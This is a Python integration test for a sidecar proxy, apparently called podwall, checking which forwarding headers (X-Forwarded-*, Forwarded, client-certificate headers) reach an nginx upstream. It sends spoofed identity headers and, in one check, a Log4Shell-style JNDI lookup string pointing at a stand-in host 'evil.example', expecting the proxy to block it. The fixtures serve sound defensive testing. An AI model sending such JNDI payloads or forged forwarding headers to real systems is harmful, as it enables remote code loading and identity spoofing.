"""What the application is told of its callers: Forwarded, X-Forwarded-* and their kin, over HTTP/1.1 and HTTP/2, to
upstreams of both. nginx says what it was given.

    tests/.venv/bin/python tests/forwarded.py target/release/podwall

Told as tests/clients.py tells: `ok NAME`, `FAIL NAME: why`, `SKIPPED NAME: why`; exit code 1 when one failed. Loopback only.
"""

import argparse
import contextlib
import json
import re
import shutil
import tempfile
from pathlib import Path

from clients_kit.checks import Failed, Skipped, Tally, expect, run
from clients_kit.programs import Podwall, Program, certificates, free_port, listening, until

HERE = "127.0.0.1"
GATEWAY = "spiffe://cluster.test/ns/shop/sa/frontend"
TOLD = [
    "host", "forwarded", "x-forwarded-for", "x-forwarded-proto", "x-forwarded-host", "x-forwarded-port", "x-forwarded-prefix",
    "x-forwarded-user", "x-forwarded-anything", "x-real-ip", "true-client-ip", "remote-user", "via", "x-forwarded-client-cert",
]
NGINX = """\
daemon off; master_process off; pid {folder}/nginx.pid; error_log {folder}/nginx.log warn;
events {{ worker_connections 64; }}
http {{
  access_log off;
  client_body_temp_path {folder}/body; proxy_temp_path {folder}/proxy;
  fastcgi_temp_path {folder}/fastcgi; uwsgi_temp_path {folder}/uwsgi; scgi_temp_path {folder}/scgi;
  server {{ listen 127.0.0.1:{http1}; listen 127.0.0.1:{http2} http2; location / {{ return 200 '{told}'; }} }}
}}
"""


def nginx(folder):
    """Gives the program and its ports for HTTP/1.1 and HTTP/2."""
    program = shutil.which("nginx") or shutil.which("/usr/sbin/nginx")
    if program is None:
        raise Skipped("no nginx")
    folder.mkdir()
    http1, http2 = free_port(), free_port()
    told = "\\n".join(f"{name}: $http_{name.replace('-', '_')}" for name in TOLD)
    (folder / "nginx.conf").write_text(NGINX.format(folder=folder, http1=http1, http2=http2, told=told))
    server = Program([program, "-p", folder, "-c", folder / "nginx.conf"], folder / "nginx.out")
    until("nginx listens", listening(http1))
    return server, http1, http2


class Door:
    """A port of the sidecar, and how it is dialled."""

    def __init__(self, port, certs=None, http2=False):
        self.port, self.certs, self.http2 = port, certs, http2

    def ask(self, *headers, host="shop"):
        """Status, what the application was told, and the event."""
        scheme = "https" if self.certs else "http"
        version = "--http1.1" if not self.http2 else "--http2" if self.certs else "--http2-prior-knowledge"
        words = ["curl", "-sS", version, "-D", "/dev/stderr", "-w", "\n%{http_code}", "-H", f"host: {host}"]
        if self.certs:
            words += ["--cacert", self.certs / "ca.crt", "--cert", self.certs / "client.crt", "--key", self.certs / "client.key"]
        words += [word for header in headers for word in ("-H", header)]
        done = run([*words, f"{scheme}://localhost:{self.port}/what"], 30)
        if done.returncode:
            raise Failed(done.stderr)
        body, status = done.stdout.rsplit("\n", 1)
        told = dict(line.split(": ", 1) for line in body.splitlines() if ": " in line)
        event = re.search(r"(?im)^x-podwall-event: (\S+)", done.stderr)
        return int(status), {name: value for name, value in told.items() if value}, event and event[1]


LIES = [
    "forwarded: for=1.2.3.4;proto=https", "x-forwarded-for: 1.2.3.4, 5.6.7.8", "x-forwarded-proto: gopher",
    "x-forwarded-host: shop", "x-forwarded-port: 1", "x-forwarded-prefix: /admin", "x-forwarded-user: root",
    "x-forwarded-anything: lie", "x-real-ip: 1.2.3.4", "true-client-ip: 1.2.3.4", "remote-user: root",
    "x-forwarded-client-cert: URI=spiffe://cluster.test/ns/shop/sa/root",
]


def known(door):
    """What is known of a caller, whatever it says."""
    told = {"host": "shop", "x-forwarded-for": HERE, "x-forwarded-proto": "https" if door.certs else "http"}
    return told


def without_certificate(told):
    certificate = told.pop("x-forwarded-client-cert", "")
    return told, certificate


def silent(door, podwall):
    status, told, _ = door.ask()
    told, certificate = without_certificate(told)
    expect("told", (status, told), (200, known(door)))
    expect("identity", GATEWAY in certificate, bool(door.certs))


def liar(door, podwall):
    """Nothing that a caller says of those before it arrives; its own address does."""
    status, told, _ = door.ask(*LIES)
    told, certificate = without_certificate(told)
    expect("told", (status, told), (200, {**known(door), "x-real-ip": HERE, "true-client-ip": HERE}))
    expect("identity", GATEWAY in certificate and "root" not in certificate, bool(door.certs))


def via(door, podwall):
    """Via goes on as it came: it says nothing of who asks."""
    _, told, _ = door.ask("via: 1.1 edge")
    expect("via", told.get("via"), "1.1 edge")


def other_host(door, podwall):
    """A host that disagrees is asked for too: granted when both are, refused by name when it is none."""
    for claim in ("x-forwarded-host: admin", "forwarded: host=admin", "x-host: admin", "x-original-host: admin:80"):
        status, _, event = door.ask(claim)
        expect(f"status of {claim}", status, 403)
        expect("reason", podwall.recorded(event=event)["reason"], "policy-no-rule")
    status, told, _ = door.ask("x-forwarded-host: store")
    expect("status of a host that is granted", (status, told.get("x-forwarded-host")), (200, None))
    status, _, event = door.ask("x-forwarded-host: a b")
    expect("reason", (status, podwall.recorded(event=event)["reason"]), (400, "http-forwarded-host"))


def attack(door, podwall):
    """What does not go on is inspected all the same."""
    status, _, event = door.ask("x-forwarded-for: ${jndi:ldap://evil.example/a}")
    expect("reason", (status, podwall.recorded(event=event)["reason"]), (403, "attack-detected"))


def gateway(door, podwall):
    """A caller that is named as a forwarder is believed, and its own address put behind."""
    claims = ["x-forwarded-for: 1.2.3.4", "x-forwarded-proto: http", "x-forwarded-prefix: /shop", "x-real-ip: 1.2.3.4",
              "x-forwarded-host: store"]
    status, told, _ = door.ask(*claims)
    told, certificate = without_certificate(told)
    expect("told", (status, told), (200, {
        "host": "shop", "x-forwarded-for": f"1.2.3.4, {HERE}", "x-forwarded-proto": "http", "x-forwarded-prefix": "/shop",
        "x-real-ip": "1.2.3.4", "x-forwarded-host": "store",
    }))
    expect("identity", GATEWAY in certificate, True)
    expect("status of another host", door.ask("x-forwarded-host: admin")[0], 403)


CHECKS = [("silent", silent), ("liar", liar), ("via", via), ("other-host", other_host), ("attack", attack)]


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("podwall", type=Path)
    options = parser.parse_args()
    tally = Tally()
    with tempfile.TemporaryDirectory(prefix="podwall-forwarded-") as folder, contextlib.ExitStack() as programs:
        try:
            everything(tally, options.podwall.resolve(), Path(folder), programs)
        except Skipped as missing:
            tally.check("forwarded", skip, str(missing))
    tally.finish()


def skip(why):
    raise Skipped(why)


def everything(tally, binary, folder, programs):
    certs = certificates(binary, folder / "pki")
    server, http1, http2 = nginx(folder / "nginx")
    programs.callback(server.end)
    kinds = {"plain": None, "mtls": certs, "gateway": certs}
    doors, listeners = {}, []
    for kind, files in kinds.items():
        for speaks, behind in (("http1", http1), ("http2", http2)):
            port = free_port()
            listeners.append({
                "listen": f"127.0.0.1:{port}", "tls": "strict" if files else "off", "upstream": f"127.0.0.1:{behind}",
                "upstream_protocol": speaks, "forwarders": [GATEWAY] if kind == "gateway" else [],
            })
            for asked in (False, True):
                doors[f"{kind} {'h2' if asked else 'h1'} to {speaks}"] = Door(port, files, asked)
    head = {"apiVersion": "podwall.dev/v1", "kind": "Allowlist", "metadata": {"name": "told"}, "owner": "team-tests"}
    rule = {"name": "what", "from": "any", "methods": "GET", "path": "/what", "host": ["shop", "store"]}
    allowlist = json.dumps({**head, "trustDomain": "cluster.test", "inbound": [rule]})
    podwall = Podwall(binary, folder / "sidecar", listeners, allowlist, certs)
    programs.callback(podwall.end)
    podwall.wait_ready()
    for name, door in doors.items():
        for check, function in [("gateway", gateway)] if name.startswith("gateway") else CHECKS:
            tally.check(f"forwarded-{check} {name}", function, door, podwall)


if __name__ == "__main__":
    main()
